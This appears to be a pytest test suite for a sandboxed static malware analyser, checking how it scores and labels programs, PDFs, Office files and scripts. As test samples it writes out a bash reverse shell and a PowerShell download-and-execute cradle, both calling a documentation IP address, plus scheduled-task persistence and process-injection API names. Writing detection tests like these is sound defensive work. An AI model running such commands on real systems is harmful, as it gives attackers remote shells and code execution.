"""The static analyser in its sandbox, on programs, documents and scripts."""

import secrets
import zlib
from collections.abc import Awaitable, Callable
from pathlib import Path
from zipfile import ZIP_STORED

import jsonschema_rs
import pytest

from samplebank.worker import wire
from samplebank.worker.contract import Rejected, Result, Tag
from samplebank.worker.sandboxed import SandboxedAnalyser
from worker import made_files
from worker.made_containers import tarred, zipped

Analyse = Callable[[bytes], Awaitable[Result]]

NOTHING_MUCH, SUSPICIOUS, MALICIOUS = range(-1, 30), range(30, 70), range(70, 101)
LS = Path("/bin/ls").read_bytes()
INJECTION = ("OpenProcess", "VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")


def traits(result: Result) -> set[str]:
    return {detection.name for detection in result.detections}


async def test_an_unsigned_launcher_is_not_suspicious(static: Analyse) -> None:
    result = await static(made_files.launcher())

    assert result.score in NOTHING_MUCH


async def test_a_program_of_the_system_is_not_suspicious(static: Analyse) -> None:
    result = await static(LS)

    assert result.score in NOTHING_MUCH
    assert result.result["elf"]["interpreter"]


async def test_the_sections_and_imports_of_a_windows_program_are_told(static: Analyse) -> None:
    facts = (await static(made_files.launcher())).result["pe"]

    assert facts["sections"][0].keys() == {
        "name",
        "offset",
        "size",
        "virtualSize",
        "entropy",
        "rights",
        "sha256",
    }
    assert "CreateProcessW" in facts["imports"][0]["functions"]
    assert len(facts["imphash"]) == 32
    assert (facts["signature"], facts["overlay"]) == (None, None)


async def test_the_sections_of_a_program_are_told_with_their_places(static: Analyse) -> None:
    told = {
        section["name"]: section.get("offset") for section in (await static(LS)).result["elf"]["sections"]
    }

    assert LS[told[".interp"] :].startswith(b"/lib")
    assert told[".bss"] is None


async def test_the_imports_of_process_injection_are_suspicious(static: Analyse) -> None:
    result = await static(made_files.importing("kernel32.dll", *INJECTION))

    assert "process-injection" in traits(result)
    assert ("behaviour", "process-injection") in {(tag.type, tag.value) for tag in result.tags}
    assert result.score in SUSPICIOUS


async def test_a_packed_program_is_suspicious_at_most(static: Analyse) -> None:
    result = await static(made_files.packed())

    assert traits(result) >= {"packer-section", "high-entropy-code", "writable-code"}
    assert result.score in SUSPICIOUS


async def test_an_overlay_is_measured(static: Analyse) -> None:
    result = await static(made_files.with_overlay(400_000))

    assert result.result["pe"]["overlay"]["size"] == 400_000
    assert "large-random-overlay" in traits(result)


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        pytest.param(made_files.pdf("<< /S /JavaScript /JS (app.alert(1)) >>"), "pdf-javascript", id="script"),
        pytest.param(made_files.pdf("<< /S /Launch /Win << /F (cmd.exe) >> >>"), "pdf-launch", id="launch"),
        pytest.param(made_files.pdf("<< /S /J#61vaScript >>"), "pdf-disguised-names", id="disguise"),
        pytest.param(made_files.word(word__vbaProject_dot_bin="macro"), "office-macros", id="macros"),
        pytest.param(
            made_files.word(word___rels__settings_dot_xml_dot_rels=made_files.RELATIONSHIPS),
            "office-remote-template",
            id="template",
        ),
        pytest.param(b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
                     "script-download-and-execute", id="cradle"),
        pytest.param(b"powershell -nop -enc " + b"QQBB" * 20, "script-encoded-command", id="encoded"),
        pytest.param(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n", "script-reverse-shell", id="shell"),
        pytest.param("schtasks /create /tn x".encode("utf-16"), "script-persistence", id="utf-16"),
        pytest.param(b"# Disk DescriptorFile\nschtasks /create /tn x", "script-persistence", id="mark of a disk"),
        pytest.param(b"\xff\xfe&cls\r\nschtasks /create /tn x", "script-persistence", id="mark of utf-16 before ascii"),
    ],
)  # fmt: skip
async def test_documents_and_scripts_have_their_traits(static: Analyse, content: bytes, trait: str) -> None:
    assert trait in traits(await static(content))


async def test_a_reverse_shell_is_malicious(static: Analyse) -> None:
    result = await static(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n")

    assert result.score in MALICIOUS


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(made_files.pdf("<< /Type /Catalog >>"), id="pdf"),
        pytest.param(made_files.word(), id="word"),
        pytest.param(
            made_files.word(word___rels__settings_dot_xml_dot_rels=made_files.LOCAL_TEMPLATE),
            id="word with a template of its own machine",
        ),
        pytest.param(b"Dear all,\nthe meeting is on Monday.\n", id="letter"),
        pytest.param(Path(made_files.__file__).read_bytes(), id="python"),
    ],
)
async def test_that_nothing_is_found_does_not_make_a_file_good(static: Analyse, content: bytes) -> None:
    result = await static(content)

    assert (result.score, traits(result)) == (-1, set())


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        pytest.param(
            made_files.pdf("<< /Type /Catalog >>", "<< /S /JavaScript /JS (app.alert(1)) >>"),
            "pdf-javascript",
            id="pdf",
        ),
        pytest.param(bytes(100) + made_files.launcher(), "embedded-executable", id="carried program"),
    ],
)
async def test_a_weak_suspicion_does_not_make_a_file_good(
    static: Analyse, content: bytes, trait: str
) -> None:
    result = await static(content)

    assert (result.score, traits(result)) == (-1, {trait})


async def test_nothing_is_found_in_noise(static: Analyse) -> None:
    result = await static(b"\0" + secrets.token_bytes(8000))

    assert result.score == -1
    assert result.result["entropy"] > 7.9


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(made_files.launcher()[:700], id="pe"),
        pytest.param(made_files.word()[:90], id="zip"),
        pytest.param(b"%PDF-", id="pdf"),
        pytest.param(b"\x7fELF" + bytes(10), id="elf"),
        pytest.param(b"\xcf\xfa\xed\xfe" + b"\xff" * 60, id="macho"),
    ],
)
async def test_a_broken_file_still_has_a_result(static: Analyse, content: bytes) -> None:
    result = await static(content)

    assert result.result["size"] == len(content)


async def test_an_empty_file_is_rejected(static: Analyse) -> None:
    with pytest.raises(Rejected, match=r"^The file is empty\.$"):
        await static(b"")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(made_files.importing("kernel32.dll", *INJECTION), id="pe"),
        pytest.param(LS, id="elf"),
        pytest.param(made_files.word(word__vbaProject_dot_bin="macro"), id="word"),
        pytest.param(b"echo hello\n", id="text"),
        pytest.param(secrets.token_bytes(100), id="noise"),
    ],
)
async def test_results_keep_their_schema(
    static: Analyse, static_analyser: SandboxedAnalyser, content: bytes
) -> None:
    result = await static(content)

    schema = jsonschema_rs.validator_for(dict(static_analyser.description.schema or {}))
    assert schema.is_valid(wire.json_value(result.result))


FAR = "var filler = 1;\n" * 4000


@pytest.mark.parametrize(
    "content",
    [
        pytest.param("atob(x);\n" + FAR + "eval(y);\n", id="decode far from run"),
        pytest.param("curl https://example.org/x\n" + FAR + "cmd /c dir\n", id="download far from run"),
        pytest.param("while (m = pattern.exec(text)) { fetch(atob(m[1])); }\n", id="the exec of patterns"),
        pytest.param("mkfifo nb nc\n", id="mkfifo beside a word"),
    ],
)
async def test_words_far_apart_make_no_act(static: Analyse, content: str) -> None:
    acts = {"script-decode-and-execute", "script-download-and-execute", "script-reverse-shell"}

    assert not traits(await static(content.encode())) & acts


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"socket.socketdup2" * 120_000, id="sockets"),
        pytest.param(b"Net.Sockets.TCPClient" * 90_000, id="clients"),
        pytest.param(b".Run" + b" " * 2_000_000, id="blanks"),
    ],
)
async def test_texts_made_to_be_slow_are_read_in_part(static: Analyse, content: bytes) -> None:
    result = await static(content)

    assert result.result["format"] == "text"


async def test_names_in_compressed_streams_have_a_bound(static: Analyse) -> None:
    stream = zlib.compress(b"/#41" * 250_000)
    content = made_files.pdf("<< /Type /ObjStm >> stream\n") + b"".join(
        b"<< /Type /ObjStm >> stream\n" + stream + b"\nendstream\n" for _ in range(64)
    )

    assert (await static(content)).result["format"] == "pdf"


async def test_an_address_ends_where_the_text_goes_on(static: Analyse) -> None:
    result = await static(b'start "http://203.0.113.7/a.ps1")\n')

    assert result.result["strings"]["urls"] == ["http://203.0.113.7/a.ps1"]


async def test_a_plain_open_action_is_no_automatic_script(static: Analyse) -> None:
    content = made_files.pdf(
        "<< /Type /Catalog /OpenAction [3 0 R /Fit] >>", "<< /Names (about JavaScript) /JS >>"
    )

    assert "pdf-automatic-script" not in traits(await static(content))


async def test_a_script_that_the_open_action_names_is_automatic(static: Analyse) -> None:
    content = made_files.pdf(
        "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (app.alert(1)) >>"
    )

    assert "pdf-automatic-script" in traits(await static(content))


async def test_a_sentence_about_dos_is_no_program(static: Analyse) -> None:
    content = LS + b"This program cannot be run in DOS mode"

    assert "embedded-executable" not in traits(await static(content))


@pytest.mark.parametrize(
    "container",
    [tarred({"a.exe": made_files.launcher()}), zipped({"a.exe": made_files.launcher()}, ZIP_STORED)],
    ids=["tar", "zip"],
)
async def test_an_archive_with_a_program_is_no_dropper(static: Analyse, container: bytes) -> None:
    result = await static(container)

    assert (traits(result), result.tags) == (set(), [])


async def test_an_archive_with_one_long_text_is_an_archive(static: Analyse) -> None:
    script = b"schtasks /create /tn x\n" + b"rem nothing more\n" * 1000

    assert (await static(tarred({"a" * 90 + ".bat": script}))).result["format"] == "archive"


async def test_a_carried_program_is_found(static: Analyse) -> None:
    assert "embedded-executable" in traits(await static(b"\0" * 100 + made_files.launcher()))


@pytest.mark.parametrize("form", [b"EA05", b"EA06"])
async def test_a_program_with_a_script_of_autoit_is_named(static: Analyse, form: bytes) -> None:
    script = bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b"AU3!" + form + bytes(range(256))

    result = await static(made_files.launcher() + script)

    assert "autoit-script" in {trait["name"] for trait in result.result["traits"]}
    assert Tag("behaviour", "autoit") in result.tags


@pytest.mark.parametrize("mark", [b"ISSetupStream\0", b"InstallShield\0"])
async def test_an_installer_by_installshield_is_named_and_gets_no_score(static: Analyse, mark: bytes) -> None:
    plain = await static(made_files.launcher() + bytes(300))

    result = await static(made_files.launcher() + mark + bytes(300))

    assert Tag("behaviour", "installshield") in result.tags
    assert result.score == plain.score
